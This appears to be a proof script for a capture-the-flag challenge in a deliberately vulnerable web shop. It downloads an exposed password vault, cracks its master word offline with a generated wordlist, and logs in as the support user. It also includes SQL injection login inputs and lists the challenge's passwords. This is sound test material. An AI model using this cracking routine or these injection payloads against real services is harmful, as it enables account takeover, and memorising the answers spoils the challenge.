import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge, PASSWORD } from './challenge.ts'
import { passwordsIn } from './read-vault.ts'

const signIn = (attacker: Attacker, password: string, email = `support@${attacker.domain}`) =>
  attacker.post('/rest/user/login', { email, password })

/** Passwords that match the client's rule and the team's habit: a name, a year, one special character. */
function masterWords(): string[] {
  const years = Array.from({ length: 6 }, (_, index) => 2019 + index)
  const names = ['Helpdesk', 'Orchard', 'Support']
  return names.flatMap((name) => years.flatMap((year) => [...'@$!%*?&'].map((sign) => `${name}${year}${sign}`)))
}

/** Cracks the vault file offline, where no rate limiter applies. */
async function crack(attacker: Attacker): Promise<string[]> {
  const { status, bytes } = await attacker.get('/ftp/incident-support.kdbx')
  if (status !== 200) return []
  for (const word of masterWords()) {
    const found = passwordsIn(Buffer.from(bytes), word)
    if (found) return found
  }
  return []
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    for (const password of await crack(attacker)) await signIn(attacker, password)
  },
  spellings: {
    'with the e-mail in blanks, as it is pasted': async (attacker) => {
      await signIn(attacker, PASSWORD, ` support@${attacker.domain}`)
      await signIn(attacker, PASSWORD)
    },
    'after wrong ones': async (attacker) => {
      for (const password of ['support', 'Support2022!', PASSWORD]) await signIn(attacker, password)
    },
    'as somebody who is signed in': async (attacker) => {
      await attacker.becomeCustomer()
      await signIn(attacker, PASSWORD)
    },
  },
  nearMisses: {
    'opening the vault, and no more': crack,
    'the master word of the vault': (attacker) => signIn(attacker, 'Support2022!'),
    'the other password in the vault': (attacker) => signIn(attacker, 'press-twice-then-wait'),
    'the password without its last sign': (attacker) => signIn(attacker, PASSWORD.slice(0, -1)),
    'the password in small letters': (attacker) => signIn(attacker, PASSWORD.toLowerCase()),
    'the password at another account': (attacker) => signIn(attacker, PASSWORD, `admin@${attacker.domain}`),
    'the account entered by an injection': (attacker) => signIn(attacker, 'x', `support@${attacker.domain}'--`),
    'an injection with the password beside it': (attacker) =>
      signIn(attacker, PASSWORD, `support@${attacker.domain}'--`),
  },
})
